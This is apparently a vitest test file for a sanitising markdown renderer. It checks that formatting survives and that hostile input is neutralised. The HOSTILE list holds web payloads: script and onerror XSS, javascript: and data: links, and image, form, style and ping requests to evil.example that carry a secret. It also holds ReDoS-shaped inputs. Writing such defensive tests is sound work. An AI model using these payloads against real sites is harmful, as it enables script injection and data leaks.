import { JSDOM } from 'jsdom';
import { Lexer } from 'marked';
import { describe, expect, it } from 'vitest';
import {
  createMarkdownRenderer,
  FORCED_BUDGET_MS,
  markdownToUnsanitizedHtml,
  MAX_FORCED_TAGS,
  MAX_NESTING,
  MAX_TAGS,
  RENDER_CAP,
  splitForRendering,
  type MarkdownResult,
} from '../../../src/lib/text/markdown.ts';

const { window } = new JSDOM('<!doctype html><body></body>');
const render = createMarkdownRenderer(window as unknown as Parameters<typeof createMarkdownRenderer>[0]);

function html(text: string): string {
  const r = render(text);
  if (r.kind !== 'html') throw new Error(`expected html, got ${r.reason}`);
  return r.html;
}

/** The rendered markup as a DOM, to ask what elements and attributes survived. */
function dom(text: string): DocumentFragment {
  const t = window.document.createElement('template');
  t.innerHTML = html(text);
  return t.content;
}

const ALLOWED = new Set(['P', 'BR', 'HR', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'STRONG', 'B', 'EM', 'I', 'DEL', 'S', 'SUB', 'SUP', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'A']);

function assertInert(text: string): void {
  const root = dom(text);
  for (const el of root.querySelectorAll('*')) {
    expect(ALLOWED.has(el.tagName), `<${el.tagName.toLowerCase()}> survived in ${JSON.stringify(text)}`).toBe(true);
    for (const attr of el.getAttributeNames()) {
      expect(['href', 'title', 'align', 'start', 'target', 'rel', 'referrerpolicy'], `${attr} on <${el.tagName}>`).toContain(attr);
    }
    const href = el.getAttribute('href');
    if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:)/i);
  }
}

describe('markdown: formatting that stays', () => {
  it('renders text formatting, lists, tables, code and quotes', () => {
    const out = html('# Title\n\n**bold** *em* ~~del~~ `code`\n\n- a\n- b\n\n1. x\n2. y\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> quote\n\n```js\nlet x = 1;\n```');
    for (const tag of ['<h1>', '<strong>bold</strong>', '<em>em</em>', '<del>del</del>', '<code>code</code>', '<ul>', '<ol>', '<table>', '<blockquote>', '<pre><code>let x = 1;']) {
      expect(out).toContain(tag);
    }
    expect(out).toContain('align="left"');
    // No class on code: a class could borrow the app's own styles.
    expect(out).not.toContain('class=');
  });

  it('links keep http(s) and mailto targets and open in a new tab without opener or referrer', () => {
    const a = dom('[site](https://example.com/x?y=1) and <mailto:someone@example.com>').querySelectorAll('a');
    expect([...a].map((x) => x.getAttribute('href'))).toEqual(['https://example.com/x?y=1', 'mailto:someone@example.com']);
    for (const x of a) {
      expect(x.getAttribute('target')).toBe('_blank');
      expect(x.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(x.getAttribute('referrerpolicy')).toBe('no-referrer');
    }
  });

  it('a task list shows its boxes as characters, not form controls', () => {
    const out = html('- [x] done\n- [ ] todo');
    expect(out).toContain('☑');
    expect(out).toContain('☐');
    expect(out).not.toContain('<input');
  });

  it('a short e-mail address still becomes a link (the bounded rule finds every real address)', () => {
    expect(html('write to ivan.petrov+test@example.ru today')).toContain('href="mailto:ivan.petrov+test@example.ru"');
  });
});

describe('markdown: nothing reaches out', () => {
  const HOSTILE = [
    '![x](https://evil.example/p.png?q=secret)',
    '<img src="https://evil.example/a.png">',
    '<img src=x onerror="alert(1)">',
    '<picture><source srcset="https://evil.example/a.png"></picture>',
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/e">',
    '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    '<style>body{background:red;background-image:url(https://evil.example/s)}</style>',
    '<p style="background:url(https://evil.example/bg)">styled</p>',
    '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<svg><image href="https://evil.example/i.png"/></svg><math><mi>x</mi></math>',
    '<a href="javascript:alert(1)">js</a> [js](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)',
    '<a href="  JaVaScRiPt:alert(1)">js2</a> <a href="vbscript:x">vb</a> <a href="/relative">rel</a> <a href="#/settings">app</a>',
    '<script>alert(1)</script><noscript><img src=https://evil.example/n></noscript>',
    '<div class="error-box" id="app" name="x" data-x="1" aria-hidden="true">clobber</div>',
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/c">x</td></tr></table>',
    '<a href="https://ok.example" ping="https://evil.example/ping">ping</a>',
    '[ref]\n\n[ref]: https://evil.example/ref "t"\n\n![img][ref]',
  ];
  for (const text of HOSTILE) {
    it(`neutralises ${JSON.stringify(text).slice(0, 70)}`, () => assertInert(text));
  }

  it('a markdown image shows its source instead of loading it', () => {
    const out = html('look: ![chart](https://evil.example/c.png)');
    expect(out).toContain('![chart](https://evil.example/c.png)');
    expect(out).not.toContain('<img');
  });

  it('raw HTML is shown as the text it is, never as markup', () => {
    const out = html('<style>body{color:red}</style>\n\ntext <b style="color:red">b</b> and <img/src=x onerror=alert(1)>');
    expect(out).toContain('&lt;b style="color:red"&gt;b&lt;/b&gt;');
    expect(out).toContain('&lt;style&gt;body{color:red}&lt;/style&gt;');
    expect(out).not.toMatch(/<(b|img|style)[\s>/]/);
    // An answer about HTML keeps its words.
    expect(html('use <br> for a line break')).toBe('<p>use &lt;br&gt; for a line break</p>\n');
  });

  it('text inside a raw <pre> block is escaped too', () => {
    expect(html('<pre>\n<img/src=x onerror=alert(1)>\n</pre>')).not.toContain('<img');
  });
});

describe('markdown: nothing freezes or goes missing', () => {
  it('3 KB of `>` renders (the nesting stops at MAX_NESTING levels) instead of overflowing the stack', () => {
    const r = render('>'.repeat(3000));
    expect(r.kind).toBe('html');
    const depth = (r as Extract<MarkdownResult, { kind: 'html' }>).html.split('<blockquote>').length - 1;
    expect(depth).toBeLessThanOrEqual(MAX_NESTING);
  });

  it('deep emphasis, lists and links nest at most MAX_NESTING levels', () => {
    expect(html('*'.repeat(2000) + 'a' + '*'.repeat(2000)).split('<em>').length - 1).toBeLessThanOrEqual(MAX_NESTING);
    expect(html('- '.repeat(2000) + 'a').split('<ul>').length - 1).toBeLessThanOrEqual(MAX_NESTING);
  });

  it('text over RENDER_CAP is plain until forced; forcing renders it', () => {
    const long = 'word '.repeat(RENDER_CAP / 5 + 10);
    expect(render(long)).toEqual({ kind: 'plain', reason: 'too-long' });
    expect(render(long, { force: true }).kind).toBe('html');
  });

  it('a forced render goes piece by piece and stops at the time budget, the rest plain', () => {
    const paragraph = 'слово '.repeat(1000) + '\n\n';
    const long = paragraph.repeat(Math.ceil((3 * RENDER_CAP) / paragraph.length));
    let clock = 0;
    // Each reading of the clock is a whole budget later: the second piece would start past it.
    const r = render(long, { force: true, now: () => (clock += FORCED_BUDGET_MS + 1) });
    expect(r.kind).toBe('html');
    if (r.kind !== 'html') return;
    expect(r.plainFrom).toBeGreaterThan(0);
    expect(r.plainFrom).toBeLessThanOrEqual(RENDER_CAP);
    expect(long.slice(0, r.plainFrom).endsWith('\n\n')).toBe(true);
  });

  it('a forced render stops at MAX_FORCED_TAGS; a single piece over it stays plain', () => {
    const many = '*a* '.repeat(RENDER_CAP / 4 - 1) + '\n\n';
    const r = render(many.repeat(4), { force: true });
    expect(r.kind === 'html' && r.plainFrom).toBeGreaterThan(0);
    expect((r as Extract<MarkdownResult, { kind: 'html' }>).html.split('<em>').length - 1).toBeLessThanOrEqual(MAX_FORCED_TAGS / 2);
    expect(render('*a'.repeat(RENDER_CAP / 2), { force: true }).kind).toBe('html');
  });

  it('splits for rendering after blank lines outside fenced code, else at line ends, spaces, or hard', () => {
    const fenced = 'a\n\n```\ncode\n\nmore code\n```\nb';
    expect(splitForRendering(fenced, 20)).toEqual(['a\n\n', '```\ncode\n\nmore code\n', '```\nb']);
    expect(splitForRendering('x'.repeat(25), 10)).toEqual(['x'.repeat(10), 'x'.repeat(10), 'x'.repeat(5)]);
    expect(splitForRendering('', 10)).toEqual(['']);
    const text = 'Первый абзац.\n\nВторой абзац, подлиннее.\n\nТретий.';
    expect(splitForRendering(text, 30).join('')).toBe(text);
  });

  it('markup with more than MAX_TAGS tags is plain until forced', () => {
    const busy = '*a* '.repeat(MAX_TAGS / 2 + 10);
    expect(busy.length).toBeLessThan(RENDER_CAP);
    expect(render(busy)).toEqual({ kind: 'plain', reason: 'too-complex' });
    expect(render(busy, { force: true }).kind).toBe('html');
  });

  it('without a DOM to sanitise in, the renderer yields plain text, never unsanitised markup', () => {
    const broken = createMarkdownRenderer({} as unknown as Parameters<typeof createMarkdownRenderer>[0]);
    expect(() => broken('**x**')).not.toThrow();
    expect(broken('**x**')).toEqual({ kind: 'plain', reason: 'failed' });
  });

  it('marked still has the unbounded e-mail rules that bounded-marked.ts bounds (a marked upgrade must keep the bound)', () => {
    const gfm = Lexer.rules.inline.gfm;
    expect(gfm.url.source).toContain(']+(@)');
    expect(gfm.text.source).toContain(']+@');
    // …and with the bound, a long run of local-part characters is plain text, a real address a link.
    expect(html(`${'a.'.repeat(40)}b@example.com`)).not.toContain('mailto:');
    expect(html('a.b@example.com')).toContain('mailto:a.b@example.com');
  });

  // Linearity is measured by bench/markdown-bench.mjs (timings do not belong in tests); this
  // only checks that the shapes that were quadratic now come back from marked at all.
  it('the adversarial shapes of the bench render within the cap', () => {
    for (const text of ['*a'.repeat(8000), '_a'.repeat(8000), '*0-*'.repeat(4000), '(www.'.repeat(3000), '<b a '.repeat(3000)]) {
      expect(typeof markdownToUnsanitizedHtml(text)).toBe('string');
    }
  });
});
